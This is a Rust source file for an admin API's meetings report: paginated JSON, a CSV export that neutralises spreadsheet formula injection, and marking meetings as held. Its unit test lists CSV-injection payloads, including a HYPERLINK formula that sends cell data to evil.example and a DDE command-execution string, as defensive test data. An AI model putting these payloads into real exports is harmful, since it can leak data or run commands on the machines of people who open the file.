//! The meetings report: filtered, cursor-paginated JSON, the same as CSV, and marking whether a meeting
//! took place.

use std::collections::HashMap;

use actix_web::{get, patch, web, HttpResponse};
use base64::Engine;
use serde::{Deserialize, Serialize};
use utoipa::{IntoParams, ToSchema};
use uuid::Uuid;

use crate::app::App;
use crate::domain::model::{Agent, Meeting, MeetingStatus};
use crate::domain::EmailAddress;
use crate::error::{AppError, AppResult, Problems};
use crate::http::auth::Admin;
use crate::http::chat::parse_id;
use crate::http::extract::{ApiJson, ApiQuery};
use crate::http::views::{AgentBrief, RoutingView};
use crate::store::{from_secs, MeetingFilter};
use crate::usecase::availability::parse_instant;

const CSV_PAGE: u32 = 1000;

/// Leading characters that make a spreadsheet (Excel, LibreOffice, Google Sheets) read a cell as a formula
/// (or, tab and CR, hide one behind them): `=HYPERLINK(…)`, `+cmd|…`, `@SUM(…)`, `-2+3` (OWASP "CSV
/// Injection").
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A CSV cell as a spreadsheet must show it: visitors' text is shown, never run, so a cell that would start
/// a formula gets a leading `'` (API.md). Every cell goes through here, whatever its source.
fn spreadsheet_safe(cell: String) -> String {
    if cell.starts_with(FORMULA_STARTS) {
        format!("'{cell}")
    } else {
        cell
    }
}

#[derive(Debug, Default, Deserialize, IntoParams)]
#[into_params(parameter_in = Query)]
pub struct MeetingsQuery {
    /// Team slug.
    pub team: Option<String>,
    /// Agent id.
    pub agent: Option<String>,
    /// `booked` or `cancelled`.
    pub status: Option<String>,
    /// Meetings starting at or after this instant (RFC 3339).
    pub from: Option<String>,
    /// Meetings starting before this instant (RFC 3339).
    pub to: Option<String>,
    pub lead_email: Option<String>,
    /// `next_cursor` of the previous page.
    pub cursor: Option<String>,
    /// 1-500 (default 50).
    pub limit: Option<String>,
}

#[derive(Debug, Serialize, Deserialize, ToSchema)]
pub struct MeetingView {
    pub id: Uuid,
    pub team: String,
    pub lead_email: String,
    pub lead_name: Option<String>,
    pub lead_company: Option<String>,
    pub agent: AgentBrief,
    pub start: String,
    pub end: String,
    /// `booked` or `cancelled`.
    pub status: String,
    /// Whether the meeting took place: null until it has ended; then true unless an admin marked it a
    /// no-show (false); false when cancelled.
    pub took_place: Option<bool>,
    pub routing: RoutingView,
    pub session_id: Option<String>,
    pub dialogue_id: Option<String>,
    pub cancel_reason: Option<String>,
    pub created_at: String,
}

#[derive(Debug, Serialize, Deserialize, ToSchema)]
pub struct MeetingList {
    pub meetings: Vec<MeetingView>,
    /// Pass as `cursor` for the next page; null on the last page.
    pub next_cursor: Option<String>,
}

fn meeting_view(
    m: &Meeting,
    agent: &AgentBrief,
    now: chrono::DateTime<chrono::Utc>,
) -> MeetingView {
    MeetingView {
        id: m.id,
        team: m.team_slug.clone(),
        lead_email: m.visitor.email.to_string(),
        lead_name: m.visitor.name.clone(),
        lead_company: m.visitor.company.clone(),
        agent: agent.clone(),
        start: m.start.to_rfc3339(),
        end: m.end.to_rfc3339(),
        status: m.status.as_str().to_owned(),
        took_place: m.took_place_at(now),
        routing: (&m.routing).into(),
        session_id: m.session_id.clone(),
        dialogue_id: m.dialogue_id.clone(),
        cancel_reason: m.cancel_reason.clone(),
        created_at: m.created_at.to_rfc3339(),
    }
}

pub(crate) fn encode_cursor(c: (chrono::DateTime<chrono::Utc>, Uuid)) -> String {
    base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(format!("{}:{}", c.0.timestamp(), c.1))
}

fn decode_cursor(s: &str) -> Option<(chrono::DateTime<chrono::Utc>, Uuid)> {
    let raw = base64::engine::general_purpose::URL_SAFE_NO_PAD
        .decode(s)
        .ok()?;
    let raw = String::from_utf8(raw).ok()?;
    let (secs, id) = raw.split_once(':')?;
    Some((from_secs(secs.parse().ok()?), Uuid::parse_str(id).ok()?))
}

pub(crate) async fn filter_of(
    app: &App,
    q: &MeetingsQuery,
    default_limit: u32,
) -> AppResult<MeetingFilter> {
    let mut p = Problems::default();
    let mut f = MeetingFilter {
        limit: default_limit,
        ..Default::default()
    };
    if let Some(slug) = &q.team {
        match app.store.team_by_slug(slug).await? {
            Some(t) => f.team_id = Some(t.id),
            None => p.add("team", format!("no team `{slug}`")),
        }
    }
    if let Some(a) = &q.agent {
        f.agent_id = p.check("agent", Uuid::parse_str(a).map_err(|_| "not an agent id"));
    }
    if let Some(s) = &q.status {
        f.status = p.check(
            "status",
            MeetingStatus::parse(s).ok_or("must be `booked` or `cancelled`"),
        );
    }
    if let Some(s) = &q.from {
        f.from = parse_instant("from", s, &mut p);
    }
    if let Some(s) = &q.to {
        f.to = parse_instant("to", s, &mut p);
    }
    if let Some(e) = &q.lead_email {
        f.lead_email = p
            .check("lead_email", EmailAddress::parse(e))
            .map(|e| e.to_string());
    }
    if let Some(c) = &q.cursor {
        f.after = p.check(
            "cursor",
            decode_cursor(c).ok_or("not a cursor from this list"),
        );
    }
    if let Some(l) = p.limit(q.limit.as_deref(), default_limit) {
        f.limit = l;
    }
    p.into_result()?;
    Ok(f)
}

pub(crate) async fn agents_of(
    app: &App,
    meetings: &[Meeting],
) -> AppResult<HashMap<Uuid, AgentBrief>> {
    let mut ids: Vec<Uuid> = meetings.iter().map(|m| m.agent_id).collect();
    ids.sort();
    ids.dedup();
    let agents: Vec<Agent> = app.store.agents_by_ids(&ids).await?;
    Ok(agents.iter().map(|a| (a.id, AgentBrief::from(a))).collect())
}

pub(crate) fn brief(agents: &HashMap<Uuid, AgentBrief>, id: Uuid) -> AgentBrief {
    agents.get(&id).cloned().unwrap_or(AgentBrief {
        id,
        name: String::new(),
        email: String::new(),
    })
}

#[utoipa::path(
    tag = "admin",
    params(MeetingsQuery),
    responses((status = 200, body = MeetingList), (status = 422, content_type = "application/problem+json")),
    security(("admin_token" = []))
)]
#[get("/admin/api/meetings")]
pub async fn list_meetings(
    app: web::Data<App>,
    _a: Admin,
    q: ApiQuery<MeetingsQuery>,
) -> AppResult<web::Json<MeetingList>> {
    let f = filter_of(&app, &q.0, 50).await?;
    let page = app.store.list_meetings(&f).await?;
    let agents = agents_of(&app, &page.meetings).await?;
    Ok(web::Json(MeetingList {
        meetings: page
            .meetings
            .iter()
            .map(|m| meeting_view(m, &brief(&agents, m.agent_id), app.now()))
            .collect(),
        next_cursor: page.next.map(encode_cursor),
    }))
}

/// Every meeting matching the filters (cursor and limit are ignored), one CSV row each.
#[utoipa::path(
    tag = "admin",
    params(MeetingsQuery),
    responses((status = 200, content_type = "text/csv", body = String), (status = 422, content_type = "application/problem+json")),
    security(("admin_token" = []))
)]
#[get("/admin/api/meetings.csv")]
pub async fn meetings_csv(
    app: web::Data<App>,
    _a: Admin,
    q: ApiQuery<MeetingsQuery>,
) -> AppResult<HttpResponse> {
    csv_download(&app, &q.0).await
}

/// Every meeting matching `q` as a CSV download (the admin API's and the console's).
pub(crate) async fn csv_download(app: &App, q: &MeetingsQuery) -> AppResult<HttpResponse> {
    let mut f = filter_of(app, q, CSV_PAGE).await?;
    f.after = None;
    f.limit = CSV_PAGE;
    let mut w = csv::Writer::from_writer(Vec::new());
    let csv_err = |e: csv::Error| AppError::Internal(e.into());
    // The header row is ours and safe; rows go through `spreadsheet_safe`.
    w.write_record([
        "id",
        "team",
        "lead_email",
        "lead_name",
        "lead_company",
        "agent_id",
        "agent_name",
        "agent_email",
        "start",
        "end",
        "status",
        "took_place",
        "routing_step",
        "created_at",
    ])
    .map_err(csv_err)?;
    loop {
        let page = app.store.list_meetings(&f).await?;
        let agents = agents_of(app, &page.meetings).await?;
        for m in &page.meetings {
            let a = brief(&agents, m.agent_id);
            let took = match m.took_place_at(app.now()) {
                Some(true) => "true",
                Some(false) => "false",
                None => "",
            };
            let step = serde_json::to_value(m.routing.step)
                .ok()
                .and_then(|v| v.as_str().map(str::to_owned))
                .unwrap_or_default();
            let row = [
                m.id.to_string(),
                m.team_slug.clone(),
                m.visitor.email.to_string(),
                m.visitor.name.clone().unwrap_or_default(),
                m.visitor.company.clone().unwrap_or_default(),
                a.id.to_string(),
                a.name,
                a.email,
                m.start.to_rfc3339(),
                m.end.to_rfc3339(),
                m.status.as_str().to_owned(),
                took.to_owned(),
                step,
                m.created_at.to_rfc3339(),
            ];
            w.write_record(row.map(spreadsheet_safe)).map_err(csv_err)?;
        }
        match page.next {
            Some(next) => f.after = Some(next),
            None => break,
        }
    }
    let body = w
        .into_inner()
        .map_err(|e| AppError::Internal(anyhow::anyhow!("csv: {e}")))?;
    Ok(HttpResponse::Ok()
        .insert_header(("content-type", "text/csv; charset=utf-8"))
        .insert_header((
            "content-disposition",
            "attachment; filename=\"meetings.csv\"",
        ))
        .body(body))
}

#[derive(Debug, Deserialize, ToSchema)]
#[serde(deny_unknown_fields)]
pub struct MeetingChanges {
    /// Whether the meeting happened (null: unknown).
    pub took_place: Option<bool>,
}

#[utoipa::path(
    tag = "admin",
    params(("id" = Uuid, Path)),
    request_body = MeetingChanges,
    responses((status = 200, body = MeetingView), (status = 404, content_type = "application/problem+json")),
    security(("admin_token" = []))
)]
#[patch("/admin/api/meetings/{id}")]
pub async fn patch_meeting(
    app: web::Data<App>,
    _a: Admin,
    id: web::Path<String>,
    body: ApiJson<MeetingChanges>,
) -> AppResult<web::Json<MeetingView>> {
    let id = parse_id(&id, "meeting")?;
    mark_took_place(&app, id, body.value.took_place).await?;
    let m = app
        .store
        .meeting(id)
        .await?
        .ok_or(AppError::NotFound("meeting"))?;
    let agents = agents_of(&app, std::slice::from_ref(&m)).await?;
    Ok(web::Json(meeting_view(
        &m,
        &brief(&agents, m.agent_id),
        app.now(),
    )))
}

/// Records whether a meeting took place; only once it has ended (before, there is nothing to say).
pub(crate) async fn mark_took_place(
    app: &App,
    id: Uuid,
    took_place: Option<bool>,
) -> AppResult<()> {
    let m = app
        .store
        .meeting(id)
        .await?
        .ok_or(AppError::NotFound("meeting"))?;
    if took_place.is_some() && app.now() < m.end {
        return Err(AppError::Validation(vec![(
            "took_place".into(),
            format!(
                "can be marked once the meeting has ended ({})",
                m.end.to_rfc3339()
            ),
        )]));
    }
    if !app.store.set_took_place(id, took_place, app.now()).await? {
        return Err(AppError::NotFound("meeting"));
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_that_would_start_a_formula_are_quoted() {
        for bad in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1)",
            "\t=1+2",
            "\r=1+2",
        ] {
            assert_eq!(spreadsheet_safe(bad.to_owned()), format!("'{bad}"));
        }
        for fine in [
            "",
            "Vera Visitor",
            "2026-11-23T10:00:00+00:00",
            "0195f0c2-0000-7000-8000-000000000000",
            "a=b",
            "'quoted",
            " =leading space",
        ] {
            assert_eq!(spreadsheet_safe(fine.to_owned()), fine);
        }
    }
}
